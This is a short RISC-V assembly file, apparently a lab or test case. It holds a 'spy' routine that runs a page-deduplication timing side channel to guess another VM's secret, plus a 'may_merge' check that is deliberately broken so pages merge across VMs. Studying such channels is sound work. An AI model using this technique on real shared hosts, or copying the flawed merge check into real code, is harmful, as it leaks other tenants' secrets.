/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Wrong: one VM's customer is compared with the number of the other VM. */
#include "channel.inc"

#define SLOW 1000 /* a store takes a few instructions, a copy thousands */

spy:
    li s0, 0
spy_round:
    /* Page s1 gets the guess s0 + s1. */
    li s1, 0
2:  slli t0, s1, PAGE_BITS
    li t1, WINDOW
    add t0, t0, t1
    add t1, s0, s1
    sw t1, 0(t0)
    li t1, 1
    li t2, PAGE_WORDS
3:  addi t0, t0, 4
    sw t1, 0(t0)
    addi t1, t1, 1
    bne t1, t2, 3b
    addi s1, s1, 1
    li t0, PAGES
    bne s1, t0, 2b

    li a7, YIELD
    ecall

    li s1, 0
2:  slli t0, s1, PAGE_BITS
    li t1, WINDOW
    add t0, t0, t1
    rdinstret t1
    sw zero, 4(t0)
    rdinstret t2
    sub t2, t2, t1
    li t1, SLOW
    bgeu t2, t1, spy_found
    addi s1, s1, 1
    li t0, PAGES
    bne s1, t0, 2b
    addi s0, s0, PAGES
    li t0, SECRETS
    bne s0, t0, spy_round
    li a0, NOTHING
    j 2f
spy_found:
    add a0, s0, s1
2:  li a7, DONE
    ecall

may_merge:
    addi sp, sp, -16
    sw ra, 0(sp)
    sw s0, 4(sp)
    mv s0, a1
    call owner_of
    xor a0, a0, s0
    seqz a0, a0
    lw ra, 0(sp)
    lw s0, 4(sp)
    addi sp, sp, 16
    ret
